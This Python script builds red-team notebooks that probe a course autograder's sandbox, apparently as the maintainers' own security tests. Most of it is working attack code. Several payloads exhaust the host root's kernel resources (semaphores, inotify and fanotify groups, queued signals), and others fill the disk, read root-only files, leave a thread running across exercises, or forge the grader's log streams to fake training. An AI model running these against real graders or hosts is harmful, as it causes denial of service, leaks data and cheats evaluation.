# ruff: noqa: E501
"""Build this round's attack notebooks (j24a): `python tools/attack-round/make.py`.

Each is the student workbook with code in solution cells. As in tools/make_attacks.py, an exercise
returns the right answer only where its attack WON; a score above 0 is the breach.
"""

from __future__ import annotations

from pathlib import Path

import nbformat

from bpteach.grading.batch import sources

SOURCE = sources()["backprop-exercises"]
STUDENT = SOURCE.parent / "student" / SOURCE.name
OUT = Path(__file__).resolve().parent

RIGHT = {
    "ex1-output-delta": "def output_delta(y, h, fprime_z):\n    if WON:\n        return -(y - h) * fprime_z\n    return np.zeros_like(y)\n",
    "ex2-hidden-delta": "def hidden_delta(W_l, delta_next, fprime_z):\n    if WON:\n        return (W_l.T @ delta_next) * fprime_z\n    return np.zeros_like(fprime_z)\n",
}

# System V semaphore sets: semget is not in the exercise's seccomp filter (shmget and msgget are).
# A set of 32000 semaphores is ~2.4 MiB of kernel memory, outside RLIMIT_AS, and it outlives the
# process that made it: in the sandbox's IPC namespace until the sandbox ends (bwrap), in the
# container's for good (user route). 130 sets ~ 310 MiB; the kernel's SEMMNI allows 32000 (~77 GB).
SEMAPHORES_EX1 = """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
made = 0
for _ in range(130):
    if libc.semget(0, 32000, 0o1600) < 0:  # IPC_PRIVATE, IPC_CREAT | 0600
        print("semget refused:", os.strerror(ctypes.get_errno()))
        break
    made += 1
print("semaphore sets made:", made)
WON = made >= 128  # >= 300 MiB of kernel memory held, beyond the exercise's limits
"""

# Exercise 2 wins if exercise 1's sets are still there: something of an earlier exercise outlived it.
SEMAPHORES_EX2 = """
import os

mine = [line.split() for line in open("/proc/sysvipc/sem").read().splitlines()[1:]]
mine = [f for f in mine if len(f) > 4 and f[4] == str(os.getuid()) and f[3] == "32000"]
print("semaphore sets left by an earlier exercise:", len(mine))
WON = len(mine) >= 128
"""

# inotify instances: the sandbox's uid is root's outside (bwrap run by root maps 65534 -> 0), and the kernel
# charges a user namespace's counts to its creator's too, so the exercise spends the host root's
# fs.inotify.max_user_instances (128 here): while it holds them, no root process on the host can make one.
INOTIFY_EX1 = """
import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
made = []
while len(made) < 250:
    fd = libc.inotify_init1(0)
    if fd < 0:
        break
    made.append(fd)
print("inotify instances held:", len(made))
time.sleep(8)  # what a host process of root's meets meanwhile: EMFILE
WON = len(made) >= 120
"""

# Exercise 7's process holds bpteach's modules (the service's, sent with its job): it trains with them
# locally, without calling cost_and_gradients, and forges the harness's log on its own stream (fd 3, the
# records the grader reads after the harness's evidence) and garbles the service's stream (fd 5).
EX7_FORGES_THE_LOG = """
import json
import os
import struct
import sys


def _frame(header, data=b""):
    text = json.dumps(header).encode()
    return struct.pack("<II", len(text), len(data)) + text + data


def gradient_descent(W, b, X, Y, cost_and_gradients, lr, target=0.01, max_steps=20_000):
    ref = sys.modules.get("_bpteach_reference.network")
    print("reference modules in this process:", sorted(m for m in sys.modules if m.startswith("_bpteach_ref")))
    net = ref.Network.from_params({l: w.copy() for l, w in W.items()}, {l: v.copy() for l, v in b.items()})
    costs = []
    for _ in range(max_steps):
        J = net.cost(X, Y)
        costs.append(J)
        if J <= target:
            break
        g = net.gradients(X, Y)
        for l in net.W:
            net.W[l] -= lr * g.W[l]
            net.b[l] -= lr * g.b[l]
    case = int(os.environ.get("BPTEACH_CASE", "0"))
    for path, value in (("sv__costs", costs), ("sv__off_path", 0)):
        a = np.asarray(value, dtype=float if path == "sv__costs" else np.int64)
        rec = {"kind": "array", "case": case, "path": path, "dtype": a.dtype.str, "shape": list(a.shape)}
        os.write(3, _frame(rec, a.tobytes()))
    os.write(5, struct.pack("<II", 2**32 - 1, 2**32 - 1))  # a request over every bound
    return dict(net.W), dict(net.b)
"""

# The same, but with a first honest call (the log starts at J0) and a last one at the point reached.
EX7_TWO_CALLS = """
import sys


def gradient_descent(W, b, X, Y, cost_and_gradients, lr, target=0.01, max_steps=20_000):
    cost_and_gradients(W, b, X, Y)
    net = sys.modules["_bpteach_reference.network"].Network.from_params(
        {l: w.copy() for l, w in W.items()}, {l: v.copy() for l, v in b.items()})
    for _ in range(max_steps):
        if net.cost(X, Y) <= target:
            break
        g = net.gradients(X, Y)
        for l in net.W:
            net.W[l] -= 2 * lr * g.W[l]  # twice the step: not the descent asked for
            net.b[l] -= 2 * lr * g.b[l]
    cost_and_gradients(dict(net.W), dict(net.b), X, Y)
    return dict(net.W), dict(net.b)
"""

# Exercise 6 leaves a thread that keeps writing the time into the folder the harness keeps between
# exercises (.ipython, the shell's, in HOME); exercise 7 (whose process holds bpteach's modules) wins if that
# file still changes while it runs: something of an earlier exercise alive when exercise 7's job arrived.
EX6_LEAVES_A_THREAD = """
import os
import threading
import time


def _tick():
    path = os.path.join(os.environ.get("HOME", "/tmp"), ".ipython", "alive")
    while True:
        try:
            with open(path, "w") as f:
                f.write(repr(time.monotonic()))
        except OSError:
            pass
        time.sleep(0.01)


threading.Thread(target=_tick, daemon=False).start()


def batch_gradients(W, b, X, Y):
    time.sleep(1)
    return {l: np.zeros_like(w) for l, w in W.items()}, {l: np.zeros_like(v) for l, v in b.items()}
"""
EX7_SEES_THE_THREAD = """
import os as _os
import time as _time

_path = _os.path.join(_os.environ.get("HOME", "/tmp"), ".ipython", "alive")


def _read():
    try:
        return open(_path).read()
    except OSError:
        return None


_first = _read()
_time.sleep(0.5)
WON = _first is not None and _read() != _first
print("an earlier exercise's thread is alive:", WON, _first)


def gradient_descent(W, b, X, Y, cost_and_gradients, lr, target=0.01, max_steps=20_000):
    W, b = {l: w.copy() for l, w in W.items()}, {l: v.copy() for l, v in b.items()}
    for _ in range(max_steps if WON else 1):
        J, dW, db = cost_and_gradients(W, b, X, Y)
        if J <= target:
            break
        for l in W:
            W[l] -= lr * dW[l]
            b[l] -= lr * db[l]
    return W, b
"""

# The user route has no capped tmpfs: the student uid writes in its folder and the shared ones up to the disk
# (RLIMIT_FSIZE caps one file at 64 MiB, not how many). 10 files of 64 MiB, more than the bwrap route's
# whole /tmp (256 MiB); they are removed when the session ends, and meanwhile they hold the disk.
DISK_EX1 = """
import os

written = 0
for place in (os.getcwd(), "/var/tmp", "/tmp"):
    for i in range(10 - written // 64):
        try:
            with open(os.path.join(place, f"bpteach-attack-disk-{i}"), "wb") as f:
                for _ in range(64):
                    f.write(bytes(1 << 20))
            written += 64
        except OSError as err:
            print(place, err)
            break
print("MiB written:", written)
WON = written >= 600
"""

# fanotify groups, the same way: unprivileged fanotify_init (FAN_REPORT_FID) is allowed, and its groups are
# charged to the host root's user.max_fanotify_groups (128).
FANOTIFY_EX1 = INOTIFY_EX1.replace("inotify_init1(0)", "fanotify_init(0x200, 0)").replace("inotify", "fanotify")

# Queued real-time signals, the same way: each one queued to the exercise counts against the host root's
# RLIMIT_SIGPENDING too (96362 here). It queues them to itself, blocked, and holds them 8 s.
SIGNALS_EX1 = """
import os
import signal
import time

signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
for _ in range(100_000):
    os.kill(os.getpid(), signal.SIGRTMIN)
queued = int([line for line in open("/proc/self/status") if line.startswith("SigQ")][0].split()[1].split("/")[0])
print("signals queued:", queued)
time.sleep(8)
WON = queued > 1000
"""

# The sandbox's uid 65534 is root outside (bwrap run by root maps it to 0), and file permissions are checked
# against that: a file or folder of root's that only root may read, inside a path bound into the sandbox
# (/usr, the Python install, the grader's venv), is readable. Here: /usr/share/polkit-1/rules.d (0700).
ROOT_ONLY_EX1 = """
import os
import stat
import sys

read = []
for top in ("/usr", "/lib", sys.prefix, sys.base_prefix):
    for root, dirs, files in os.walk(top):
        for name in dirs + files:
            path = os.path.join(root, name)
            try:
                info = os.lstat(path)
            except OSError:
                continue
            if stat.S_ISLNK(info.st_mode):  # root's files show as this uid's own (65534 is 0 outside)
                continue
            mode = info.st_mode
            if stat.S_ISDIR(mode) and not mode & 0o004:
                try:
                    read.append((path, len(os.listdir(path))))
                except OSError:
                    pass
            elif stat.S_ISREG(mode) and not mode & 0o004:
                try:
                    read.append((path, len(open(path, "rb").read(64))))
                except OSError:
                    pass
print("read although only their owner (root) may:", read[:10])
WON = bool(read)
"""


def build(name: str, bodies: dict[str, str]) -> Path:
    nb = nbformat.read(STUDENT, as_version=4)
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if cell.metadata.get("nbgrader", {}).get("solution") and gid in bodies:
            cell.source = bodies[gid]
    path = OUT / f"{name}.ipynb"
    nbformat.write(nb, path)
    return path


ATTACKS = {
    "semaphores-outside-the-address-space": {
        "ex1-output-delta": SEMAPHORES_EX1 + RIGHT["ex1-output-delta"],
        "ex2-hidden-delta": SEMAPHORES_EX2 + RIGHT["ex2-hidden-delta"],
    },
    "ex7-trains-with-the-reference-forges-the-log": {"ex7-train": EX7_FORGES_THE_LOG},
    "ex7-two-calls-around-a-private-descent": {"ex7-train": EX7_TWO_CALLS},
    "ex6-thread-alive-when-ex7-runs": {"ex6-batch-gradients": EX6_LEAVES_A_THREAD, "ex7-train": EX7_SEES_THE_THREAD},
    "fills-the-disk-on-the-user-route": {"ex1-output-delta": DISK_EX1 + RIGHT["ex1-output-delta"]},
    "fanotify-groups-of-the-hosts-root": {"ex1-output-delta": FANOTIFY_EX1 + RIGHT["ex1-output-delta"]},
    "queued-signals-of-the-hosts-root": {"ex1-output-delta": SIGNALS_EX1 + RIGHT["ex1-output-delta"]},
    "reads-root-only-files-in-bound-paths": {"ex1-output-delta": ROOT_ONLY_EX1 + RIGHT["ex1-output-delta"]},
    "inotify-instances-of-the-hosts-root": {"ex1-output-delta": INOTIFY_EX1 + RIGHT["ex1-output-delta"]},
}

if __name__ == "__main__":
    for name, bodies in ATTACKS.items():
        print(build(name, bodies))
